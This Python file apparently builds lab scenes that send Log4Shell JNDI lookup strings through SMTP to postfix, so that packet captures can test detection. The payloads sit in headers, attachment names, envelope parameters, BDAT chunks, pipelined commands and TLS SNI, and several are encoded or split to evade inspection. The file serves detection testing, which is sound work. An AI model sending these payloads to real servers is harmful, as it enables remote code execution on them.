"""Scenes of attacks over SMTP, received by postfix; pcaps/NAME.expect demands what is sent here."""

import base64
import email.message
import email.policy
import smtplib
import socket
import subprocess

import servers
from lab import ATTACKER, FRONT
from scene import jndi, scene
from web import ENVIRONMENT

SENDER, RECEIVER = "jo@mail.example", "desk@shop.example"
DATE = "Mon, 13 Dec 2021 09:30:00 +0000"


def swaks(lab, *args, sender=SENDER, receiver=RECEIVER, helo="client.mail.example"):
    """One mail by swaks; it fails unless postfix takes it."""
    command = ["swaks", "--server", FRONT, "--local-interface", ATTACKER, "--helo", helo,
               "--from", sender, "--to", receiver, "--header", "Date: " + DATE,
               "--header", "Message-Id: <1@mail.example>", "--header", "X-Mailer: swaks",
               "--header", "Subject: hello", "--timeout", "20", *args]
    with lab.inside("client"):
        subprocess.run(command, check=True, capture_output=True, env=ENVIRONMENT)


def message(subject, sender=SENDER, receiver=RECEIVER):
    """A mail with the usual headers, still without a body."""
    mail = email.message.EmailMessage(policy=email.policy.SMTP)
    mail["From"], mail["To"], mail["Subject"] = sender, receiver, subject
    mail["Date"], mail["Message-ID"] = DATE, "<2@mail.example>"
    return mail


def send(lab, mails, source=ATTACKER, helo="client.mail.example"):
    """Sends mails (texts or messages) over one session of Python's smtplib."""
    with lab.inside("client"):
        session = smtplib.SMTP(FRONT, 25, helo, 20, source_address=(source, 0))
    for mail in mails:
        data = mail if isinstance(mail, (str, bytes)) else mail.as_bytes()
        refused = session.sendmail(SENDER, [RECEIVER], data)
        if refused:
            raise RuntimeError(f"refused: {refused}")
    session.quit()


class Dialogue:
    """An SMTP session whose every byte is ours: writes as told, checks the reply codes."""

    def __init__(self, lab, source=ATTACKER):
        with lab.inside("client"):
            self.peer = socket.create_connection((FRONT, 25), 20, source_address=(source, 0))
        self.replies = self.peer.makefile("rb")
        self.expect("220")

    def expect(self, *codes):
        for code in codes:
            line = b"   -"
            while line[3:4] == b"-":
                line = self.replies.readline()
            if line[:3].decode() != code:
                raise RuntimeError(f"reply {line!r}, expected {code}")

    def say(self, data, *codes):
        self.peer.sendall(data.encode() if isinstance(data, str) else data)
        self.expect(*codes)

    def close(self):
        self.say("QUIT\r\n", "221")
        self.replies.close()
        self.peer.close()


def head(subject, *more):
    """The header of a mail as text."""
    return "\r\n".join([f"From: {SENDER}", f"To: {RECEIVER}", f"Subject: {subject}",
                        f"Date: {DATE}", *more, "", ""])


def words(text, kind, charset="UTF-8"):
    """RFC 2047 encoded words, one for each 21 bytes."""
    data, made = text.encode(charset), []
    for at in range(0, len(data), 21):
        piece = data[at:at + 21]
        if kind == "B":
            code = base64.b64encode(piece).decode()
        else:
            code = "".join(chr(b) if chr(b).isalnum() else f"={b:02X}" for b in piece)
        made.append(f"=?{charset}?{kind}?{code}?=")
    return " ".join(made)


@scene("mail-headers")
def headers(lab, path):
    """One header each, one session of swaks each."""
    servers.start_postfix(lab)
    with lab.capture(path):
        swaks(lab, "--header", "Subject: " + jndi("subject"))
        swaks(lab, "--header", "Subject: Order " + words(jndi("subject-b"), "B"))
        swaks(lab, "--header", "Subject: " + words("Re: " + jndi("subject-q"), "Q"))
        swaks(lab, "--header", f'From: "{jndi("from")}" <{SENDER}>')
        swaks(lab, "--header", f'To: {words(jndi("to"), "B")} <{RECEIVER}>')
        swaks(lab, "--header", "X-Mailer: " + jndi("x-mailer"))
        swaks(lab, "--header", "Reply-To: " + jndi("reply-to") + " <jo@mail.example>")


@scene("mail-mime")
def mime(lab, path):
    """Bodies and attachments, one mail each in one session of Python's smtplib."""
    servers.start_postfix(lab)
    mails = []

    mail = message("attached text")
    mail.set_content("See the attachment.\n")
    mail.add_attachment(b"first line\r\n" + jndi("attached").encode() + b"\r\nlast line\r\n",
                        maintype="text", subtype="plain", filename="notes.txt")
    mails.append(mail)

    mail = message("attachment with a name")
    mail.set_content("See the attachment.\n")
    mail.add_attachment(b"\x89PNG\r\n\x1a\n" + bytes(range(256)), maintype="image",
                        subtype="png", filename=jndi("name") + ".png")
    mails.append(mail)

    name = jndi("name-2231").encode()
    mails.append(head("a name after RFC 2231", "MIME-Version: 1.0",
                      "Content-Type: application/pdf",
                      "Content-Transfer-Encoding: base64",
                      "Content-Disposition: attachment;",
                      " filename*0*=utf-8''" + "".join(f"%{b:02X}" for b in name[:20]) + ";",
                      " filename*1*=" + "".join(f"%{b:02X}" for b in name[20:]))
                 + base64.b64encode(b"%PDF-1.4 nothing").decode() + "\r\n")

    mails.append(head("quoted-printable", "MIME-Version: 1.0",
                      "Content-Type: text/plain; charset=utf-8",
                      "Content-Transfer-Encoding: quoted-printable")
                 + "Gr=C3=BC=C3=9Fe aus K=C3=B6ln, bitte =24{jndi:ldap://203.0.113=\r\n"
                   ".9:1389/soft-break} pr=C3=BCfen.\r\n")

    inner = message("forwarded " + jndi("nested-subject"))
    inner.set_content("The body of the inner mail: " + jndi("nested-body") + "\n")
    mail = message("Fwd: a mail in a mail")
    mail.set_content("See below.\n")
    mail.add_attachment(inner)
    mails.append(mail)

    mail = message("base64 text")
    mail.set_content("Bitte lesen: " + jndi("text-base64") + "\n", cte="base64")
    mails.append(mail)

    mail = message("text with an HTML twin")
    mail.set_content("Bitte die andere Fassung lesen.\n")
    mail.add_alternative("<p>Bitte lesen: " + jndi("html").replace("$", "&#36;") + "</p>\n",
                         subtype="html", cte="quoted-printable")
    mails.append(mail)

    with lab.capture(path):
        send(lab, mails)


@scene("mail-envelope")
def envelope(lab, path):
    """The EHLO name, sender, receiver, and parameters of MAIL and RCPT."""
    servers.start_postfix(lab)
    body = head("hello") + "Hello.\r\n.\r\n"
    with lab.capture(path):
        swaks(lab, helo=jndi("ehlo"))
        swaks(lab, sender=f'"{jndi("mail-from")}"@mail.example')
        swaks(lab, receiver=f'"{jndi("rcpt-to")}"@shop.example')
        session = Dialogue(lab)
        session.say("EHLO client.mail.example\r\n", "250")
        session.say(f"MAIL FROM:<{SENDER}> RET=HDRS ENVID={jndi('envid')}\r\n", "250")
        session.say(f"RCPT TO:<{RECEIVER}> NOTIFY=NEVER ORCPT=rfc822;{jndi('orcpt')}\r\n", "250")
        session.say("DATA\r\n", "354")
        session.say(body, "250")
        session.close()


@scene("mail-bdat")
def bdat(lab, path):
    """Two mails by BDAT; the pieces are cut inside the look-up."""
    servers.start_postfix(lab)
    with lab.capture(path):
        session = Dialogue(lab)
        session.say("EHLO client.mail.example\r\n", "250")
        for name in ("bdat-subject", "bdat-body"):
            subject = jndi(name) if name == "bdat-subject" else "in pieces"
            text = jndi(name) if name == "bdat-body" else "Hello."
            mail = (head(subject) + text + "\r\n").encode()
            cut = mail.index(b"203.0")
            session.say(f"MAIL FROM:<{SENDER}> BODY=8BITMIME\r\n", "250")
            session.say(f"RCPT TO:<{RECEIVER}>\r\n", "250")
            session.say(b"BDAT %d\r\n%s" % (cut, mail[:cut]), "250")
            session.say(b"BDAT %d\r\n%s" % (5, mail[cut:cut + 5]), "250")
            session.say(b"BDAT %d LAST\r\n%s" % (len(mail) - cut - 5, mail[cut + 5:]), "250")
        session.close()


@scene("mail-pipelining")
def pipelining(lab, path):
    """Four mails in one session, commands pipelined, RSET between; two are attacks."""
    servers.start_postfix(lab)

    def mail(subject, text):
        return head(subject) + text + "\r\n.\r\n"

    with lab.capture(path):
        session = Dialogue(lab)
        session.say("EHLO client.mail.example\r\n", "250")
        begin = f"MAIL FROM:<{SENDER}>\r\nRCPT TO:<{RECEIVER}>\r\nDATA\r\n"
        session.say(begin, "250", "250", "354")
        session.say(mail("one", "Dots at the start of lines:\r\n..\r\n...") + begin,
                    "250", "250", "250", "354")
        session.say(mail("two", "..${jndi:ldap://203.0.113.9:1389/dot-stuffed}")
                    + f"MAIL FROM:<other@mail.example>\r\nRSET\r\n" + begin,
                    "250", "250", "250", "250", "250", "354")
        session.say(mail("three", "Hello again.") + begin, "250", "250", "250", "354")
        session.say(mail(jndi("pipelined"), "Good bye.") + "NOOP\r\n", "250", "250")
        session.close()


@scene("mail-starttls")
def starttls(lab, path):
    """swaks asks for STARTTLS; the attack inside is not to be seen, only that there was TLS."""
    servers.start_postfix(lab)
    with lab.capture(path):
        swaks(lab, "--tls", "--header", "Subject: " + jndi("encrypted"))


@scene("mail-starttls-name")
def starttls_name(lab, path):
    """The name that swaks asks for behind STARTTLS, before anything is encrypted, is a look-up."""
    servers.start_postfix(lab)
    with lab.capture(path):
        swaks(lab, "--tls", "--tls-sni", jndi("sni"))
